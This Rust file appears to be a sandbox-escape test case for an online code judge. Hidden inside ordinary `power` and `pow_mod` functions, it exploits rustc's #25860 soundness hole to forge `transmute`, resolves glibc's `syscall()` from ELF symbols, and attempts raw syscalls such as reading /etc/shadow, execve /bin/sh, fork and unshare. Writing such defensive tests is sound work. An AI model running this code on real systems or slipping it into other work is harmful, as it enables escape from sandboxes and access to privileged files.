//! expected-verdict: accepted
//! mode: submit
//! attack: uses the #25860 soundness hole to turn the address of glibc's `syscall()` (found in its own ELF symbol table, read from /prog, when glibc is linked in; else in libc.so.6's dynamic symbols, at the base /proc/self/maps shows) into a safe fn pointer, then makes raw syscalls: socket (also via the x32 ABI), fork, clone, clone3, kill/tgkill of init and the parent (signal 0), unshare(NEWUSER/NEWNET), keyctl, io_uring_setup, userfaultfd, openat /etc/shadow, symlinkat, mknodat, chmod /prog, execve /bin/sh, ptrace(TRACEME)
//! defence: with forbid(unsafe_code) bypassed only the kernel layers remain: seccomp (ENOSYS; x32 numbers are not on the list), the pid/user namespaces and Landlock make every call fail while getpid works -> accepted; any call that succeeds is printed and answered wrong -> wrong_answer; a broken gadget panics -> runtime_error

// ---- rust-lang/rust#25860 (implied bounds on a fn pointer), as packaged by cve-rs ----
// Still accepted by rustc 1.95 under #![forbid(unsafe_code)]: `expand_mut` turns a borrow
// of any lifetime into one of any other, which gives use-after-free and `transmute`.
const STATIC_UNIT: &&() = &&();

fn translate<'a, 'b, T: ?Sized>(_witness: &'a &'b (), v: &'b mut T) -> &'a mut T {
    v
}

fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    f(STATIC_UNIT, x)
}

enum Dummy<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

#[inline(never)]
fn transmute_inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
    let Dummy::B(slot) = dummy else {
        unreachable!()
    };
    let slot: &mut Option<Box<B>> = expand_mut(slot);
    *dummy = Dummy::A(Some(Box::new(obj)));
    std::hint::black_box(&mut *dummy);
    *slot.take().unwrap()
}

/// `std::mem::transmute` without `unsafe` (A and B must have the same size).
fn transmute<A, B>(obj: A) -> B {
    transmute_inner(std::hint::black_box(&mut Dummy::B(None)), obj)
}

use std::sync::Once;
use std::sync::atomic::{AtomicBool, Ordering};

static ONCE: Once = Once::new();
static BREACHED: AtomicBool = AtomicBool::new(false);

/// glibc's `long syscall(long nr, ...)`: arguments in registers, the sixth on the stack.
type Syscall = extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64;

#[inline(never)]
fn hostile_marker_fn() -> u64 {
    std::hint::black_box(0x5eed)
}

fn le(bytes: &[u8], at: usize, n: usize) -> Option<u64> {
    let b = bytes.get(at..at + n)?;
    Some(b.iter().rev().fold(0u64, |acc, &x| acc << 8 | u64::from(x)))
}

/// Addresses (link-time) of the first function symbols matching each predicate, from the
/// first section of `kind` (2: the full symbol table; 11: the dynamic symbols).
fn symbols(elf: &[u8], kind: u64, want: &[&dyn Fn(&[u8]) -> bool]) -> Option<Vec<u64>> {
    let shoff = le(elf, 0x28, 8)? as usize;
    let shentsize = le(elf, 0x3a, 2)? as usize;
    let shnum = le(elf, 0x3c, 2)? as usize;
    let section = |i: usize| shoff + i * shentsize;
    let symtab = (0..shnum).find(|&i| le(elf, section(i) + 4, 4) == Some(kind))?;
    let (off, size) = (
        le(elf, section(symtab) + 24, 8)? as usize,
        le(elf, section(symtab) + 32, 8)? as usize,
    );
    let strtab = le(elf, section(symtab) + 40, 4)? as usize;
    let str_off = le(elf, section(strtab) + 24, 8)? as usize;
    let mut found = vec![None; want.len()];
    for sym in (off..off + size).step_by(24) {
        let info = *elf.get(sym + 4)?;
        let value = le(elf, sym + 8, 8)?;
        if info & 0xf != 2 || value == 0 {
            continue; // not a defined function
        }
        let name_at = str_off + le(elf, sym, 4)? as usize;
        let name = elf.get(name_at..)?;
        let name = &name[..name.iter().position(|&b| b == 0)?];
        for (slot, pred) in found.iter_mut().zip(want) {
            if slot.is_none() && pred(name) {
                *slot = Some(value);
            }
        }
    }
    found.into_iter().collect()
}

fn gadget() -> Result<Syscall, String> {
    let own = std::env::args().next().unwrap_or_default();
    let elf = [own.as_str(), "/proc/self/exe", "/prog"]
        .iter()
        .find_map(|p| std::fs::read(p).ok())
        .ok_or("cannot read my own binary")?;
    let is_marker = |n: &[u8]| n.windows(17).any(|w| w == b"hostile_marker_fn");
    let is_syscall = |n: &[u8]| n == b"syscall";
    let address = match symbols(&elf, 2, &[&is_marker, &is_syscall]) {
        // glibc linked in: `syscall` sits at a fixed distance from our own function.
        Some(found) => {
            let runtime = hostile_marker_fn as fn() -> u64 as usize as u64;
            runtime.wrapping_sub(found[0]).wrapping_add(found[1])
        }
        // glibc loaded: its first mapping is its load address.
        None => {
            let maps = std::fs::read_to_string("/proc/self/maps").map_err(|e| e.to_string())?;
            let libc = maps
                .lines()
                .find(|l| {
                    l.ends_with("libc.so.6") && l.split_whitespace().nth(2) == Some("00000000")
                })
                .ok_or("symbols not found: no libc in /proc/self/maps")?;
            let base = libc
                .split('-')
                .next()
                .and_then(|b| u64::from_str_radix(b, 16).ok())
                .ok_or("unreadable maps line")?;
            let path = libc.split_whitespace().last().unwrap_or_default();
            let lib = std::fs::read(path).map_err(|e| format!("{path}: {e}"))?;
            let found = symbols(&lib, 11, &[&is_syscall]).ok_or("symbols not found in libc")?;
            base.wrapping_add(found[0])
        }
    };
    let sys = transmute::<usize, Syscall>(address as usize);
    // Proof that the gadget works: getpid must agree with std.
    let pid = sys(39, 0, 0, 0, 0, 0, 0);
    if pid != i64::from(std::process::id()) {
        return Err(format!("gadget broken: getpid gave {pid}"));
    }
    Ok(sys)
}

fn attack() {
    let sys = match gadget() {
        Ok(sys) => sys,
        Err(why) => panic!("the raw-syscall gadget could not be set up: {why}"),
    };
    let ptr = |s: &'static [u8]| s.as_ptr() as i64;
    let parent = i64::from(std::os::unix::process::parent_id());
    let mut clone_args = [0u64; 11];
    clone_args[4] = 17; // exit_signal = SIGCHLD: a plain fork
    let mut uring_params = [0u8; 120];
    let argv = [ptr(b"/bin/sh\0"), 0i64];
    let x32 = 0x4000_0000i64;
    let calls: [(&str, i64, [i64; 6]); 21] = [
        ("socket(AF_INET, SOCK_STREAM)", 41, [2, 1, 0, 0, 0, 0]),
        ("socket(AF_UNIX, SOCK_STREAM)", 41, [1, 1, 0, 0, 0, 0]),
        ("x32 socket(AF_INET)", x32 | 41, [2, 1, 0, 0, 0, 0]),
        ("fork", 57, [0; 6]),
        ("x32 fork", x32 | 57, [0; 6]),
        ("clone(SIGCHLD)", 56, [17, 0, 0, 0, 0, 0]),
        (
            "clone3(fork)",
            435,
            [clone_args.as_mut_ptr() as i64, 88, 0, 0, 0, 0],
        ),
        ("kill(1, 0)", 62, [1, 0, 0, 0, 0, 0]),
        ("kill(-1, 0)", 62, [-1, 0, 0, 0, 0, 0]),
        ("kill(parent, 0)", 62, [parent, 0, 0, 0, 0, 0]),
        ("tgkill(1, 1, 0)", 234, [1, 1, 0, 0, 0, 0]),
        ("unshare(CLONE_NEWUSER)", 272, [0x1000_0000, 0, 0, 0, 0, 0]),
        ("unshare(CLONE_NEWNET)", 272, [0x4000_0000, 0, 0, 0, 0, 0]),
        (
            "keyctl(GET_KEYRING_ID, session, create)",
            250,
            [0, -3, 1, 0, 0, 0],
        ),
        (
            "io_uring_setup",
            425,
            [1, uring_params.as_mut_ptr() as i64, 0, 0, 0, 0],
        ),
        ("userfaultfd(USER_MODE_ONLY)", 323, [1, 0, 0, 0, 0, 0]),
        (
            "openat(/etc/shadow)",
            257,
            [-100, ptr(b"/etc/shadow\0"), 0, 0, 0, 0],
        ),
        (
            "symlinkat(/etc/shadow, /tmp/hostile-link)",
            266,
            [
                ptr(b"/etc/shadow\0"),
                -100,
                ptr(b"/tmp/hostile-link\0"),
                0,
                0,
                0,
            ],
        ),
        (
            "mknodat(/tmp/hostile-fifo, S_IFIFO)",
            259,
            [-100, ptr(b"/tmp/hostile-fifo\0"), 0o010600, 0, 0, 0],
        ),
        (
            "chmod(/prog, 0777)",
            90,
            [ptr(b"/prog\0"), 0o777, 0, 0, 0, 0],
        ),
        (
            "execve(/bin/sh)",
            59,
            [ptr(b"/bin/sh\0"), argv.as_ptr() as i64, 0, 0, 0, 0],
        ),
    ];
    let mut got_through = Vec::new();
    for (what, nr, a) in calls {
        let r = sys(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
        if r == 0 && what.contains("fork") || r == 0 && what.starts_with("clone") {
            sys(231, 0, 0, 0, 0, 0, 0); // a child of a fork that worked: leave at once
        }
        eprintln!("{what} = {r}");
        if r != -1 {
            got_through.push(format!("{what} = {r}"));
        }
    }
    // Last: if it works, our parent becomes our tracer.
    let r = sys(101, 0, 0, 0, 0, 0, 0);
    eprintln!("ptrace(TRACEME) = {r}");
    if r != -1 {
        got_through.push(format!("ptrace(TRACEME) = {r}"));
    }
    if !got_through.is_empty() {
        println!("raw syscalls that got through: {got_through:?}");
        BREACHED.store(true, Ordering::SeqCst);
    }
}

fn attack_once() -> bool {
    ONCE.call_once(attack);
    BREACHED.load(Ordering::SeqCst)
}

pub fn power(base: f64, exponent: i32) -> f64 {
    if attack_once() {
        return f64::NAN; // the attack got through: answer wrong on purpose
    }
    let mut n = exponent.unsigned_abs();
    let mut b = if exponent < 0 { 1.0 / base } else { base };
    let mut acc = 1.0;
    while n > 0 {
        if n & 1 == 1 {
            acc *= b;
        }
        b *= b;
        n >>= 1;
    }
    acc
}

pub fn pow_mod(base: u64, exponent: u64, modulus: u64) -> u64 {
    if attack_once() {
        return modulus; // never a valid residue
    }
    let m = u128::from(modulus);
    let (mut acc, mut b, mut e) = (1 % m, u128::from(base) % m, exponent);
    while e > 0 {
        if e & 1 == 1 {
            acc = acc * b % m;
        }
        b = b * b % m;
        e >>= 1;
    }
    acc as u64
}
